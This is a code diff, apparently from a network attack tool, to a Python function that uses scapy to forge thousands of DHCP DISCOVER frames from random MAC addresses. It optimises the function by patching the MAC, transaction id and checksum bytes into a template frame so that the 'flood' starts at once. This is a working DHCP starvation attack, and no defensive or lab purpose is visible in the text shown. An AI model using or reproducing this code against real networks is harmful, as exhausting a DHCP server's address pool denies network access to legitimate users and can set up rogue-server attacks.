@@ -16,14 +16,24 @@ from scapy.layers.l2 import Ether
 ETH_P_ALL = 0x0003
 
 
+# Where a DISCOVER's varying fields sit: after Ethernet (14), IPv4 (20) and UDP (8) headers.
+_ETH_SRC, _UDP_CHECKSUM, _BOOTP = slice(6, 12), slice(40, 42), 42
+_XID, _CHADDR = slice(_BOOTP + 4, _BOOTP + 8), slice(_BOOTP + 28, _BOOTP + 34)
+
+
 def forged_discovers(n, rng):
+    """n DISCOVERs from random MACs: one frame built by scapy, its MAC and xid patched in each copy
+    (building thousands with scapy takes seconds, and the flood should start at once)."""
+    template = bytes(Ether(dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
+                     / UDP(sport=68, dport=67) / BOOTP(op=1) / DHCP(options=[("message-type", "discover"), "end"]))
     frames = []
     for _ in range(n):
-        mac = "02:" + ":".join(f"{rng.randrange(256):02x}" for _ in range(5))
-        frames.append(bytes(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
-                            / UDP(sport=68, dport=67)
-                            / BOOTP(op=1, xid=rng.getrandbits(32), chaddr=bytes.fromhex(mac.replace(":", "")))
-                            / DHCP(options=[("message-type", "discover"), "end"])))
+        frame = bytearray(template)
+        mac = bytes([0x02]) + rng.randbytes(5)
+        frame[_ETH_SRC] = frame[_CHADDR] = mac
+        frame[_XID] = rng.randbytes(4)
+        frame[_UDP_CHECKSUM] = b"\0\0"  # no checksum, as IPv4 allows
+        frames.append(bytes(frame))
     return frames
 
 
